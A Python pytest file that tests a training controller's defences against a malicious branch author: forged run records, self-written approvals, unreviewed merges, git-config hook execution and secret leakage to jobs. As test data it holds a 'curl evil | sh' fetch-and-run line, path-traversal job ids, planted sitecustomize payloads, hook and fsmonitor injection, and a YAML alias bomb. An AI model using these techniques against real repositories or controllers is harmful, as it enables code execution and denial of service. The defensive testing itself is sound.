"""Provenance: a branch author — who can push `evo/*` and open a pull
request but is no maintainer — cannot write evidence, cannot approve, cannot get unreviewed
files merged, and cannot run code in the controller or see its secrets. Each test performs
the attack for real and checks the promise: nothing promoted or launched, one clear line
naming the version, the file and the way out, no traceback."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys

import pytest
import yaml
from standin import converge, propose, record, wait_for

from evotrainer.backends.base import JobSpec, job_environment
from evotrainer.backends.local import LocalBackend, spawn_detached
from evotrainer.control.reconcile import load_context, plan
from evotrainer.control.versions import new_version, spec_text
from evotrainer.errors import EvoError
from evotrainer.store import seal
from evotrainer.store.git import branch_name
from evotrainer.store.records import RunRecord
from evotrainer.store.workspace import PROJECT_FILE, Workspace, run_path, version_spec_path

pytestmark = pytest.mark.usefixtures("standin")


def plans_by_version(ws: Workspace) -> dict:
    return {p.version: p for p in plan(load_context(ws))}


def main_project(ws: Workspace) -> dict:
    return yaml.safe_load(ws.git.read("main", PROJECT_FILE))


def author_commit(ws: Workspace, name: str, files: dict[str, bytes], message: str) -> None:
    """What a branch author can do: commit anything onto the version's branch."""
    ws.git.commit_files(branch_name(name), files, message)


def auto_mode(ws: Workspace, ref: str = "main") -> bytes:
    text = ws.git.read(ref, PROJECT_FILE).decode()
    assert "mode: human_gated" in text
    return text.replace("mode: human_gated", "mode: auto").replace(
        "max_total_steps: 2000", "max_total_steps: 999999999").encode()


def test_a_forged_run_record_promotes_nothing(workspace, cli):
    """25.1: v9 was never approved; its branch carries v1's run record and scores, renamed
    (job_id `../v1/<jid>`, v9's spec digest) and `mode: auto` for main's project."""
    propose(workspace, "v1", standin_skill=0.6)
    converge(workspace)
    assert record(workspace, "v1", "decision")["verdict"] == "promote"
    before_main = workspace.git.rev("main")

    new_version(workspace, "v9", "v0", rationale="never approved")
    v1_run = record(workspace, "v1", "run")
    forged = dict(v1_run, version="v9", job_id=f"../v1/{v1_run['job_id']}",
                  spec_digest=workspace.version("v9").spec_digest)
    author_commit(workspace, "v9", {
        run_path("v9", "run.yaml"): yaml.safe_dump(forged).encode(),
        run_path("v9", "scores.csv"): workspace.git.read("evo/v1", run_path("v1", "scores.csv")),
        PROJECT_FILE: auto_mode(workspace, "evo/v9"),
    }, "v9's results")
    # Even a job id of the generated form, with a copied seal, does not make it v9's.
    forged["job_id"] = v1_run["job_id"].replace("evo-v1-", "evo-v9-")
    author_commit(workspace, "v9", {
        run_path("v9", "run.yaml"): yaml.safe_dump(forged).encode(),
        run_path("v9", seal.SEAL_FILE): workspace.git.read("evo/v1", run_path("v1",
                                                                              seal.SEAL_FILE)),
    }, "v9's results, sealed")

    plans = converge(workspace)
    v9 = {p.version: p for p in plans}["v9"]
    assert v9.action is None and "forged records" in v9.error
    assert "runs/v9/run.yaml" in v9.error
    assert workspace.git.rev("main") == before_main  # nothing promoted, nothing merged
    assert main_project(workspace)["autonomy"]["mode"] == "human_gated"
    assert workspace.git.read("evo/v9", run_path("v9", "diagnosis.yaml")) is None
    out = cli("-C", str(workspace.root), "plan")
    assert out.code == 1 and "forged records" in out.output and "Traceback" not in out.output
    # The controller never seals over what it did not write: approving it is refused too.
    refused = cli("-C", str(workspace.root), "approve", "v9")
    assert refused.code == 1 and "forged" in refused.output
    assert "Traceback" not in refused.output


def test_a_job_id_that_names_another_folder_is_refused(workspace):
    """25.1: job ids match the generated pattern; `..` or `/` never name a folder."""
    propose(workspace, "v1", standin_skill=0.6)
    converge(workspace)
    run = record(workspace, "v1", "run")
    for bad in (f"../v0/{run['job_id']}", "evo-v1-a1-../../x", "evo-v1/a1-0123456789"):
        with pytest.raises(EvoError) as err:
            RunRecord.from_record(dict(run, job_id=bad), "runs/v1/run.yaml")
        assert "job_id" in str(err.value) and "not an id the controller generates" in str(
            err.value)


def test_commits_after_an_approval_are_not_merged(workspace, cli):
    """25.2: after a real approval, the author pushes `mode: auto`, a new file and a
    workflow edit without touching the spec: nothing launches; once trained, promotion is
    refused naming the files, and main gets none of them."""
    propose(workspace, "v1", standin_skill=0.6)
    workflow = ".github/workflows/evotrainer.yml"
    original_workflow = workspace.git.read("evo/v1", workflow)
    author_commit(workspace, "v1", {
        PROJECT_FILE: auto_mode(workspace, "evo/v1"),
        "payload.sh": b"curl evil | sh\n",
        workflow: (original_workflow or b"") + b"\n# run: curl evil | sh\n",
    }, "small fixes")
    assert workspace.approval_status(workspace.version("v1")) == "stale"
    v1 = plans_by_version(workspace)["v1"]
    assert v1.action is None and "awaiting re-approval" in v1.note
    converge(workspace)
    assert record(workspace, "v1", "run") is None  # never launched

    # Trained as approved, then the author pushes: promotion merges exactly what was approved.
    workspace.git.repo.git.update_ref("refs/heads/evo/v1", workspace.git.rev("evo/v1~1"))
    assert workspace.approval_status(workspace.version("v1")) == "approved"
    reconciler_plans = converge(workspace)
    assert {p.version: p for p in reconciler_plans}["v1"].error is None
    assert record(workspace, "v1", "decision")["verdict"] == "promote"
    # Reset main to before the promotion to replay it with an unapproved push in between.
    workspace.git.repo.git.update_ref("refs/heads/main", workspace.git.rev("main~1"))
    workspace.git.repo.git.reset("--hard", "main")
    before_main = workspace.git.rev("main")
    author_commit(workspace, "v1", {
        PROJECT_FILE: auto_mode(workspace, "evo/v1"), "payload.sh": b"curl evil | sh\n",
    }, "after the run")
    plans = {p.version: p for p in converge(workspace)}
    assert plans["v1"].action is None and "not promoted" in plans["v1"].error
    assert "payload.sh" in plans["v1"].error and PROJECT_FILE in plans["v1"].error
    assert workspace.git.rev("main") == before_main
    assert workspace.git.read("main", "payload.sh") is None
    assert main_project(workspace)["autonomy"]["mode"] == "human_gated"
    out = cli("-C", str(workspace.root), "plan")
    assert "not promoted" in out.output and "Traceback" not in out.output


def test_an_approval_the_author_writes_is_not_an_approval(workspace, cli):
    """25.3: the digest is public data; the author writes the whole approval block with it
    (and a seal file copied from an approved version). Nothing launches."""
    propose(workspace, "v1", standin_skill=0.6)  # a real approval, to copy from
    new_version(workspace, "v2", "v0", rationale="self-approved")
    spec = dict(workspace.version("v2").spec)
    spec["approval"] = {"approved": True, "by": "maintainer-alice", "at": "2026-12-01T00:00:00Z",
                        "digest": workspace.approval_digest("v2")}
    author_commit(workspace, "v2", {
        version_spec_path("v2"): spec_text(spec).encode(),
        run_path("v2", seal.SEAL_FILE): workspace.git.read("evo/v1", run_path("v1",
                                                                              seal.SEAL_FILE)),
    }, "approved by alice")
    state = workspace.version("v2")
    assert state.approval["digest"] == workspace.approval_digest("v2")  # the digest matches
    assert workspace.approval_status(state) == "forged"
    v2 = plans_by_version(workspace)["v2"]
    assert v2.action is None and "not written by this controller" in v2.note
    converge(workspace)
    assert record(workspace, "v2", "run") is None
    shown = cli("-C", str(workspace.root), "lineage")
    assert "Traceback" not in shown.output


def test_another_controller_key_does_not_verify(workspace, monkeypatch):
    """The seal is only as secret as the key: a controller with another key (the author's
    own machine) makes records this one refuses."""
    propose(workspace, "v1", standin_skill=0.6)
    converge(workspace)
    assert plans_by_version(workspace)["v1"].error is None
    monkeypatch.setenv(seal.KEY_ENV, "k" * 64)
    fresh = Workspace(workspace.root)
    v1 = plans_by_version(fresh)["v1"]
    assert "forged records" in v1.error and seal.KEY_ENV in v1.error


def test_a_key_file_that_is_a_link_is_refused(tmp_path):
    state = tmp_path / ".evotrainer"
    state.mkdir()
    (tmp_path / "elsewhere.key").write_text("x" * 64)
    (state / seal.KEY_FILE).symlink_to(tmp_path / "elsewhere.key")
    with pytest.raises(EvoError) as err:
        seal.record_key(state)
    assert "not a plain file" in str(err.value)
    fresh = tmp_path / "fresh"
    key = seal.record_key(fresh)
    made = seal.key_file(fresh)
    assert len(key) == 64 and made.stat().st_mode & 0o777 == 0o600
    assert not made.is_relative_to(tmp_path)  # outside the workspace
    assert seal.record_key(fresh) == key


# ---- B5: a job runs the installed engine, with no secret ------------------------------------


def test_branch_files_do_not_replace_the_engine(tmp_path):
    """A worktree carrying `evotrainer/engine/__main__.py`, `sitecustomize.py` and
    `usercustomize.py` that would each leave a marker: the job runs the installed engine
    (which refuses the empty recipe) and none of the branch's files."""
    worktree, out = tmp_path / "worktree", tmp_path / "artifacts" / "evo-v1-a1-0123456789"
    marker = tmp_path / "ran"
    payload = f"open({str(marker)!r}, 'a').write(__name__ + '\\n')\n"
    for path in ("evotrainer/__init__.py", "evotrainer/engine/__init__.py",
                 "evotrainer/engine/__main__.py", "sitecustomize.py", "usercustomize.py"):
        (worktree / path).parent.mkdir(parents=True, exist_ok=True)
        (worktree / path).write_text(payload)
    job = JobSpec("evo-v1-a1-0123456789", "v1", {"not": "a recipe"}, worktree, out)
    backend = LocalBackend()
    backend.submit(job)
    wait_for(lambda: backend.status(job).state.finished, timeout=120)
    assert not marker.exists()
    result = json.loads((out / "result.json").read_text())
    assert result["status"] == "failed"  # the real engine's recipe check answered


def test_no_secret_reaches_a_job(tmp_path, monkeypatch):
    for name in ("GITHUB_TOKEN", "ANTHROPIC_API_KEY", seal.KEY_ENV, "HF_TOKEN",
                 "WANDB_API_KEY", "AWS_SECRET_ACCESS_KEY", "PYTHONPATH", "PYTHONSTARTUP"):
        monkeypatch.setenv(name, "secret-" + name)
    monkeypatch.setenv("OMP_NUM_THREADS", "1")
    job = JobSpec("evo-v1-a1-0123456789", "v1", {"threads": 1}, tmp_path, tmp_path / "out")
    (tmp_path / "out").mkdir()
    env = LocalBackend().environment(job)
    assert not any(v.startswith("secret-") for v in env.values())
    assert env["OMP_NUM_THREADS"] == "1" and "PATH" in env
    # What the spawned process really sees (the same spawn the backend uses).
    dump = tmp_path / "env.json"
    command = [sys.executable, "-I", "-c",
               f"import json, os; open({str(dump)!r}, 'w').write(json.dumps(dict(os.environ)))"]
    spawn_detached(command, job, env, tmp_path / "out" / "process.log")
    wait_for(dump.exists)
    wait_for(lambda: bool(dump.read_text()))
    seen = json.loads(dump.read_text())
    assert not any(str(v).startswith("secret-") for v in seen.values())
    assert job_environment({"EXTRA": "1"})["EXTRA"] == "1"


# ---- B9: git config in the workspace runs no code in the controller -------------------------


def test_git_config_runs_no_code_in_the_controller(workspace, cli, tmp_path):
    marker = tmp_path / "ran"
    script = tmp_path / "hook.sh"
    script.write_text(f"#!/bin/sh\necho \"$0 $*\" >> {marker}\nexit 0\n")
    script.chmod(0o755)
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    for hook in ("post-checkout", "pre-commit", "post-commit", "reference-transaction",
                 "post-merge", "pre-push", "post-rewrite", "post-index-change"):
        (hooks / hook).symlink_to(script)
    config = workspace.git.repo.config_writer()
    config.set_value("core", "hooksPath", str(hooks))
    config.set_value("core", "fsmonitor", str(script))
    config.set_value("diff", "external", str(script))
    config.release()
    subprocess.run(["git", "-C", str(workspace.root), "status"], check=True,
                   capture_output=True)
    assert marker.exists()  # the trap is armed: plain git runs it
    marker.unlink()

    fresh = Workspace(workspace.root)
    new_version(fresh, "v1", "v0", rationale="hooks", settings=["domain.params.standin_skill=0.6"])
    assert cli("-C", str(workspace.root), "approve", "v1").code == 0
    converge(Workspace(workspace.root))
    body = cli("-C", str(workspace.root), "pr", "body", "v1")
    assert body.code == 0, body.output
    assert not marker.exists(), marker.read_text()
    assert record(fresh, "v1", "decision") is not None


def test_job_environment_names_no_secret_even_under_an_allowed_prefix(monkeypatch):
    monkeypatch.setenv("EVOTRAINER_RECORD_KEY", "x")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.setenv("RAY_AUTH_TOKEN", "x")
    monkeypatch.setenv("TOKENIZERS_PARALLELISM", "false")  # a setting, not a token
    env = job_environment()
    assert "EVOTRAINER_RECORD_KEY" not in env and "RAY_AUTH_TOKEN" not in env
    assert env["TOKENIZERS_PARALLELISM"] == "false"
    assert env["HF_HUB_OFFLINE"] == "1"
    assert os.environ["EVOTRAINER_RECORD_KEY"] == "x"  # ours is untouched


def test_the_record_seal_is_bound_to_the_version_and_the_files(tmp_path):
    key = b"k" * 32
    files = {name: None for name in seal.SEALED_FILES}
    files["run.yaml"] = b"state: Succeeded\n"
    mac = seal.records_mac(key, "v1", files)
    assert mac != seal.records_mac(key, "v9", files)
    assert mac != seal.records_mac(key, "v1", {**files, "scores.csv": b"task,score\n"})
    assert mac != seal.records_mac(b"j" * 32, "v1", files)
    assert seal.read_seal(seal.seal_text({"records": mac}))["records"] == mac
    assert seal.read_seal(b"- not a mapping") == {} and seal.read_seal(None) == {}


def test_the_pr_body_shows_every_file_the_branch_merges_and_stays_quiet_and_bounded(
    workspace,
):
    """25.1/25.11: the body's diff leaves out only the controller's sealed records (the
    author's other files show), says when runs/ is forged, mentions nobody and stays under
    GitHub's limit with a 70 KB rationale."""
    from evotrainer.control.pull_requests import intervention_body, intervention_title

    rationale = "ping @org/team and @alice " + "x" * 70_000
    new_version(workspace, "v9", "v0", rationale=rationale)
    author_commit(workspace, "v9", {
        "payload.sh": b"echo unreviewed\n",
        run_path("v9", "run.yaml"): b"state: Succeeded\njob_id: evo-v9-a1-0123456789\n",
    }, "extra")
    body = intervention_body(workspace, "v9")
    assert len(body) <= 65_536
    assert "payload.sh" in body and "Forged records" in body
    # Mentions notify outside code blocks only (the diff quotes the spec inside one).
    prose = re.sub(r"(?ms)^(`{3,})[^\n]*\n.*?^\1$", "", body)
    assert "@org/team" not in prose and "@alice" not in prose and "org/team" in prose
    assert "@org/team" not in intervention_title(workspace.version("v9"))


def test_signed_approvals_where_main_keeps_allowed_signers(workspace, tmp_path, cli):
    """25.3, local flow: with `spec/allowed_signers` on main, `approve` signs the approval
    commit (git's SSH signing) and only an allowed key's signature makes it an approval."""
    from evotrainer.store.workspace import ALLOWED_SIGNERS

    key = tmp_path / "alice"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "alice", "-f",
                    str(key)], check=True)
    public = (tmp_path / "alice.pub").read_text().strip()
    workspace.git.commit_files("main", {ALLOWED_SIGNERS: f"alice {public}\n".encode()},
                               "allowed signers")
    new_version(workspace, "v1", "v0", rationale="signed",
                settings=["domain.params.standin_skill=0.6"])
    unsigned = cli("-C", str(workspace.root), "approve", "v1")
    assert unsigned.code == 1 and "could not sign" in unsigned.output
    assert "user.signingkey" in unsigned.output and "Traceback" not in unsigned.output
    config = workspace.git.repo.config_writer()
    config.set_value("gpg", "format", "ssh")
    config.set_value("user", "signingkey", str(tmp_path / "alice.pub"))
    config.release()
    signed = cli("-C", str(workspace.root), "approve", "v1")
    assert signed.code == 0, signed.output
    fresh = Workspace(workspace.root)
    state = fresh.version("v1")
    assert fresh.approval_status(state) == "approved"
    assert fresh.approval_signer(state) == "alice"
    # Another key, not on main's list, signs a re-approval: not an approval.
    other = tmp_path / "mallory"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "m", "-f",
                    str(other)], check=True)
    config = workspace.git.repo.config_writer()
    config.set_value("user", "signingkey", str(tmp_path / "mallory.pub"))
    config.release()
    spec = dict(state.spec, approval={"approved": False})
    workspace.git.commit_files("evo/v1", {version_spec_path("v1"): spec_text(spec).encode()},
                               "withdraw")
    assert cli("-C", str(workspace.root), "approve", "v1").code == 0
    fresh = Workspace(workspace.root)
    assert fresh.approval_status(fresh.version("v1")) == "unsigned"
    note = plans_by_version(fresh)["v1"].note
    assert "awaiting a signed approval" in note


def test_a_reader_without_the_key_verifies_nothing_and_acts_on_nothing(workspace, cli,
                                                                       monkeypatch):
    """A fork's CI (no secret) plans read-only: every recorded version says it cannot be
    verified there, nothing is launched, and plan does not fail on it."""
    propose(workspace, "v1", standin_skill=0.6)
    converge(workspace)
    seal.key_file(workspace.state_dir).rename(workspace.root.parent / "kept.key")
    out = cli("-C", str(workspace.root), "plan", "--json")
    assert out.code in (0, 2), out.output
    rows = {r["version"]: r for r in json.loads(out.out)["versions"]}
    assert rows["v1"]["action"] is None and "cannot be verified here" in rows["v1"]["reason"]
    assert not seal.key_file(workspace.state_dir).exists()  # a reader makes no key
    monkeypatch.setenv(seal.KEY_ENV, (workspace.root.parent / "kept.key").read_text().strip())
    rows = plans_by_version(Workspace(workspace.root))
    assert rows["v1"].error is None and rows["v1"].note.startswith("done")


def test_an_alias_bomb_for_a_seal_is_read_within_the_bounds():
    """The seal file is branch content: a 600-byte billion-laughs document is refused by the
    bounded loader (it would expand to a billion strings) and counts as no seal."""
    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 10) + "]\n"
        for i in range(8))
    assert len(bomb) < 4096
    assert seal.read_seal(bomb.encode()) == {}
